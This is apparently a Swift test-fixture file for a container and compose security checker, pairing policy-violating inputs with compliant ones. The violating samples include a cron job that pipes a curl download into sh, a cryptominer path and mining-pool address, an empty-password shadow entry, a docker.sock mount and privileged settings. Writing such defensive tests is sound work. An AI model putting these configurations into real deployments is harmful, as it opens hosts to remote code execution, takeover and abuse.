/// What shows that a sentence of a built-in policy is held: an input that breaks it, and one that keeps it, as `PackRun`
/// reads them.
struct PromiseCase: Sendable {
  let breaks: [String]
  let keeps: String

  init(breaks: String..., keeps: String) {
    self.breaks = breaks
    self.keeps = keeps
  }

  private static func service(_ lines: String...) -> String {
    "# compose\nservices:\n  app:\n    image: app:1.0\n" + lines.map { "    \($0)\n" }.joined()
  }

  private static func image(_ lines: String...) -> String {
    "# image\nimage: app:1.0\n" + lines.map { "\($0)\n" }.joined()
  }

  private static let app = "layer: COPY app /srv/app # buildkit\n  -rwxr-xr-x 0:0 /srv/app 10"
  private static let plain = image("User: 10001", app)
  private static let starting = image(#"Entrypoint: ["/srv/app"]"#, app)

  /// By the sentence.
  static let all: [String: PromiseCase] = ofBaseline.merging(ofProduction) { first, _ in first }
    .merging(ofOthers) { first, _ in first }

  private static let ofBaseline: [String: PromiseCase] = [
    "No password, key or token is in an image: not in a file, the config, the history or a label.":
      PromiseCase(
        breaks: image("Env: DB_PASSWORD=postgres", app), image("Labels: db.password=Tr0ugmPq5w", app),
        image("layer: COPY id /root/.ssh/id\n  -rw------- 0:0 /etc/ssh/ssh_host_rsa_key\n    | " + sshKey),
        keeps: image("Env: DB_HOST=db", app)),
    "No credential is written in a compose file.": PromiseCase(
      breaks: service("environment: {DB_PASSWORD: Tr0ugmPq5w}"), keeps: service("environment: {DB_HOST: db}")),
    "No image runs as root, and no service runs one that does.": PromiseCase(
      breaks: image(app), service() + image(app), keeps: plain),
    "No account is open to anybody: no empty password, no second root, no sudo without a password.":
      PromiseCase(
        breaks: image("layer: RUN x\n  -rw-r----- 0:42 /etc/shadow\n    | app::19700:0:99999:7:::"),
        keeps: image("layer: RUN x\n  -rw-r----- 0:42 /etc/shadow\n    | app:!:19700:0:99999:7:::")),
    "No program in an image has capabilities that amount to root.": PromiseCase(
      breaks: image(app, "  capability 200000"), keeps: image(app)),
    "The program that an image starts is in the image and can run.": PromiseCase(
      breaks: image(#"Entrypoint: ["/srv/other"]"#, app), keeps: starting),
    "No image or service disables certificate checks or starts a listening debugger.": PromiseCase(
      breaks: image("Env: NODE_TLS_REJECT_UNAUTHORIZED=0", app),
      image(#"Cmd: ["node", "--inspect=0.0.0.0:9229", "app.js"]"#, app),
      service("environment: {NODE_TLS_REJECT_UNAUTHORIZED: \"0\"}"),
      service("command: node --inspect app.js"),
      keeps: image("Env: NODE_TLS_REJECT_UNAUTHORIZED=1", app)),
    "No image has a program that mines cryptocurrency, or an address of a mining pool.": PromiseCase(
      breaks: image("layer: RUN x\n  -rwxr-xr-x 0:0 /tmp/xmrig 100"),
      image("Env: POOL=stratum+tcp://pool.example.org:3333", app), keeps: image("Env: POOL_SIZE=10", app)),
    "Nothing that starts by itself in an image runs what it downloads.": PromiseCase(
      breaks: image(
        "layer: x\n  -rw-r--r-- 0:0 /etc/cron.d/a\n    | @daily root curl -fsSL https://example.org/a | sh"),
      keeps: image(
        "layer: x\n  -rw-r--r-- 0:0 /etc/cron.d/a\n    | @daily root curl -fsSL https://example.org/a -o /srv/a",
        app)),
    "The content of an image matches its digests.": PromiseCase(
      breaks: image(app, "diffID: sha256:" + String(repeating: "0", count: 64)), keeps: plain),
    "No service has power over the host, by privileges, capabilities, devices, namespaces, paths or the engine.":
      PromiseCase(
        breaks: service("privileged: true"), service("cap_add: [SYS_ADMIN]"),
        service("devices: [\"/dev/sda:/dev/sda\"]"), service("pid: host"), service("network_mode: host"),
        service("volumes: [\"/:/host\"]"),
        service("volumes: [\"/var/run/docker.sock:/var/run/docker.sock\"]"),
        service("security_opt: [seccomp:unconfined]"),
        keeps: service("cap_add: [NET_BIND_SERVICE]", "volumes: [\"data:/data\"]") + "volumes: {data: }"),
    "Requirements that an extending policy adds are met: what it requires exists, and what it forbids does not.":
      PromiseCase(
        breaks: plain + "# policy\nimage: {required-packages: [ca-certificates]}",
        image("User: 10001", "layer: RUN x\n  package dpkg curl 7.88.1")
          + "# policy\nimage: {forbidden-packages: [curl]}",
        plain + "# policy\nimage: {users: [app]}",
        keeps: plain + "# policy\nimage: {users: [\"10001\"]}"),
  ]

  private static let labels = """
    Labels: org.opencontainers.image.source=https://git.example.com/app
    Labels: org.opencontainers.image.revision=0123456
    Labels: org.opencontainers.image.version=1.0
    """

  private static let ofProduction: [String: PromiseCase] = [
    "No image and no service runs in development mode, and no service is set to accept connections without a password.":
      PromiseCase(
        breaks: image("Env: NODE_ENV=development", app), service("environment: {NODE_ENV: development}"),
        service("command: python manage.py runserver"),
        "# compose\nservices:\n  db: {image: \"postgres:16\", environment: {POSTGRES_HOST_AUTH_METHOD: trust}}",
        keeps: service("environment: {NODE_ENV: production}")),
    "Nothing that only a build needs is in an image: no compiler, build tool, debugger or repository.":
      PromiseCase(
        breaks: image("layer: RUN x\n  package dpkg gcc-12 12.2.0-14"),
        image("layer: RUN x\n  package dpkg make 4.3"),
        image("layer: RUN x\n  package dpkg gdb 13.1"),
        keeps: image("layer: RUN x\n  package dpkg libc6 2.36")),
    "Nothing that only a test needs is in an image: no browser, no driver, no framework, no generator of test data.":
      PromiseCase(
        breaks: image("layer: RUN x\n  package dpkg chromium 120.0"),
        image("layer: RUN x\n  package python pytest 8.0.0"),
        image("layer: RUN x\n  package npm cypress 13.6.0"),
        keeps: image("layer: RUN x\n  package python requests 2.31.0")),
    "No package that only development needs is in an image.": PromiseCase(
      breaks: image(
        "layer: RUN npm ci\n  -rw-r--r-- 0:0 /srv/app/package.json",
        #"    | {"name": "shop", "devDependencies": {"typescript": "5"}}"#, "  package npm typescript 5.3.3"),
      keeps: image(
        "layer: RUN npm ci\n  -rw-r--r-- 0:0 /srv/app/package.json",
        #"    | {"name": "shop", "dependencies": {"express": "4"}}"#, "  package npm express 4.18.2")),
    "An image is small: at most 500 MB, 40 layers and 20 MB that later layers hide.": PromiseCase(
      breaks: image(
        (0..<41).map { "layer: COPY f\($0) /f\($0)\n  -rw-r--r-- 0:0 /f\($0) 1" }.joined(separator: "\n")),
      image(
        "layer: COPY big /big\n  -rw-r--r-- 0:0 /big 21MB\nlayer: RUN rm /big && x\n  delete /big\n  -rw-r--r-- 0:0 /x 1"
      ),
      keeps: plain),
    "An image has labels for its source and its revision.": PromiseCase(
      breaks: plain, image("Labels: org.opencontainers.image.source=https://git.example.com/app", app),
      keeps: image(labels, app)),
    "The origin of an image is known: it names its base image, and its history records what made each layer.":
      PromiseCase(
        breaks: image("layer:\n  -rwxr-xr-x 0:0 /srv/app 10"),
        image(app, "layer: bash\n  -rwxr-xr-x 0:0 /srv/more 10"),
        image("layer: ADD file:0123456789abcdef in /\n  -rwxr-xr-x 0:0 /usr/bin/sh 1", app),
        keeps: image(
          "Labels: org.opencontainers.image.base.name=registry.example/base:1",
          "layer: ADD file:0123456789abcdef in /\n  -rwxr-xr-x 0:0 /usr/bin/sh 1", app)),
    "An image has a version tag, and a service names a tag that does not move.": PromiseCase(
      breaks: "# image\nimage: app:latest\n" + app, "# compose\nservices:\n  app:\n    image: app:latest",
      "# compose\nservices:\n  app:\n    image: app",
      keeps: plain + service()),
    "Every service has a memory limit, a CPU limit and a process limit.": PromiseCase(
      breaks: service("cpus: 1", "pids_limit: 100"), service("mem_limit: 1g", "pids_limit: 100"),
      service("mem_limit: 1g", "cpus: 1"),
      keeps: service("mem_limit: 1g", "cpus: 1", "pids_limit: 100")),
    "Every service drops all capabilities except those that it names, and its processes cannot gain privileges.":
      PromiseCase(
        breaks: service("cap_drop: [ALL]"), service("security_opt: [\"no-new-privileges:true\"]"),
        keeps: service("cap_drop: [ALL]", "cap_add: [CHOWN]", "security_opt: [\"no-new-privileges:true\"]")),
    "Every service has a read-only root file system.": PromiseCase(
      breaks: service(), keeps: service("read_only: true")),
    "Data stores are on networks without a way out, which neither all services nor exposed services share.":
      PromiseCase(
        breaks: "# compose\nservices:\n  db:\n    image: postgres:16",
        """
        # compose
        services:
          proxy: {image: "nginx:1.27", ports: ["80:80"], networks: [front, back]}
          app: {image: "app:1", depends_on: [db], networks: [front, back]}
          db: {image: "postgres:16", networks: [back]}
        networks: {front: , back: {internal: true}}
        """,
        """
        # compose
        services:
          app: {image: "app:1", depends_on: [db], networks: [back]}
          worker: {image: "app:1", depends_on: [db], networks: [back]}
          db: {image: "postgres:16", networks: [back]}
        networks: {back: {internal: true}}
        """,
        keeps: """
          # compose
          services:
            proxy: {image: "nginx:1.27", ports: ["80:80"], networks: [front]}
            app: {image: "app:1", depends_on: [db], networks: [front, back]}
            db: {image: "postgres:16", networks: [back]}
          networks: {front: , back: {internal: true}}
          """),
    "Every service that stays up has a health check, of its own or of its image.": PromiseCase(
      breaks: service(), service() + starting, service("healthcheck: {disable: true}"),
      keeps: service()
        + image(#"Entrypoint: ["/srv/app"]"#, #"Healthcheck: ["CMD", "/srv/app", "--check"]"#, app)),
  ]

  private static let ofOthers: [String: PromiseCase] = [
    "Access control, (a)(1): nothing runs as root, contains set-id programs, or can gain privileges.":
      PromiseCase(
        breaks: image(app), image("User: 10001", "layer: COPY h /h\n  -rwsr-xr-x 0:0 /usr/local/bin/h 10"),
        service("user: root", "security_opt: [\"no-new-privileges:true\"]"), service("user: \"10001\""),
        keeps: plain + service("security_opt: [\"no-new-privileges:true\"]")),
    "Encryption, (a)(2)(iv) and (e)(2)(ii): certificates are checked, and no credential is stored in plain text.":
      PromiseCase(
        breaks: image("Env: NODE_TLS_REJECT_UNAUTHORIZED=0", app),
        service("environment: {DB_PASSWORD: Tr0ugmPq5w}"),
        keeps: plain + service("environment: {DB_HOST: db}")),
    "Audit controls, (b): services keep logs of limited size.":
      PromiseCase(
        breaks: service("logging: {driver: none}"), service("logging: {driver: json-file}"),
        keeps: service("logging: {driver: json-file, options: {max-size: 10m, max-file: \"3\"}}")),
    "Integrity, (c)(1): images are identifiable and pinned, and root file systems are read-only.":
      PromiseCase(
        breaks: service("read_only: true"), "# image\nimage: app:latest\n" + app,
        "# compose\nservices:\n  app:\n    image: app@sha256:" + String(repeating: "0", count: 64),
        keeps: "# compose\nservices:\n  app:\n    read_only: true\n    image: app@sha256:"
          + String(repeating: "0", count: 64)),
    "Authentication, (d): no data store accepts connections without a password, and no debugger is exposed.":
      PromiseCase(
        breaks:
          "# compose\nservices:\n  db: {image: \"postgres:16\", environment: {POSTGRES_HOST_AUTH_METHOD: trust}}",
        "# compose\nservices:\n  cache: {image: \"redis:7\"}", service("command: node --inspect app.js"),
        image("ExposedPorts: 9229/tcp", app),
        keeps: image("ExposedPorts: 8080/tcp", app)),
    "Transmission, (e)(1): data stores have no connections to or from the outside.": PromiseCase(
      breaks:
        "# compose\nservices:\n  db: {image: \"postgres:16\", ports: [\"5432:5432\"], networks: [back]}\n"
        + "networks: {back: }",
      "# compose\nservices:\n  db: {image: \"postgres:16\"}",
      keeps: "# compose\nservices:\n  db: {image: \"postgres:16\", networks: [back]}\n"
        + "networks: {back: {internal: true}}"),
    "An image names its user by a number that is not 0 (runAsNonRoot), and not root's group.": PromiseCase(
      breaks: image(app), image("User: app", app), image("User: 10001:0", app),
      keeps: image("User: 10001:10001", app)),
    "Nothing in an image needs set-id bits, file capabilities or devices (allowPrivilegeEscalation, drop ALL).":
      PromiseCase(
        breaks: image("User: 10001:10001", "layer: COPY h /h\n  -rwsr-xr-x 0:0 /usr/local/bin/h 10"),
        image("User: 10001:10001", app, "  capability 400"),
        image("User: 10001:10001", "layer: RUN x\n  brw-rw---- 0:6 /srv/disk 8,0"),
        keeps: image("User: 10001:10001", app)),
  ]

  /// The head of a host's key is enough for the rule that goes by its path.
  private static let sshKey = "-----BEGIN OPENSSH " + "PRIVATE KEY-----"
}
